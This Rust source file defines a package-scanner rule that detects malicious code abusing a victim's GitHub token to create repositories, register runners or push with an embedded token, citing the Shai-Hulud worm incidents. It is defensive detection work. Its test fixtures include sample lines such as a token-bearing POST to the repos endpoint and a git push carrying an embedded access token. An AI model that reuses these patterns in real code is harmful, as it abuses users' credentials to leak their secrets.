//! Rule `github-repo-abuse`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Uses the victim's GitHub token against GitHub itself: creating repositories
    /// (`POST /user/repos`, `repos.createForAuthenticatedUser`) to dump stolen data, registering
    /// self-hosted runners, pushing with a token embedded in the remote URL.
    id: "github-repo-abuse",
    category: Worm,
    severity: High,
    capability: Some(crate::model::Capability::Network),
    title: "creates repositories or runners with the user's GitHub token",
    incident: "Nx s1ngularity and Shai-Hulud (2025) created public repos holding stolen secrets; Shai-Hulud 2 registered runners",
    case_file: "index.js",
    flag: ["await octokit.rest.repos.createForAuthenticatedUser({ name: 'x', private: false })",
           "fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: 'token ' + t } })",
           "execSync(`git push https://x-access-token:${tok}@github.com/${r}.git`)"],
    pass: ["fetch('https://api.github.com/repos/' + r + '/releases')", "// createForAuthenticatedUser is documented"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let re = crate::regex!(
        r"createForAuthenticatedUser|/user/repos['\x22`]|actions/runners/registration-token|x-access-token:\$\{|https://\$\{[^}]+\}@github\.com|config\.(sh|cmd)\s+--url\s+https://github\.com"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let hits: Vec<_> = find_text(f, re)
            .into_iter()
            .filter(|(o, _)| {
                let o = *o as usize;
                let start = f.text[..o.min(f.text.len())]
                    .rfind('\n')
                    .map_or(0, |i| i + 1);
                let line = f.text[start..].trim_start();
                !(line.starts_with("//") || line.starts_with('*'))
            })
            .collect();
        let Some((off, m)) = hits.first().cloned() else {
            continue;
        };
        // SDKs define these endpoints in their route tables; one mention in a big bundle is not use.
        let many = hits.len() >= 2 || f.text.len() < 200_000;
        if !many {
            continue;
        }
        let sev = if pkg.is_install_file(f) {
            Severity::Critical
        } else {
            Severity::High
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("uses the GitHub API to create repositories, runners or pushes ({m})"),
        );
    }
}
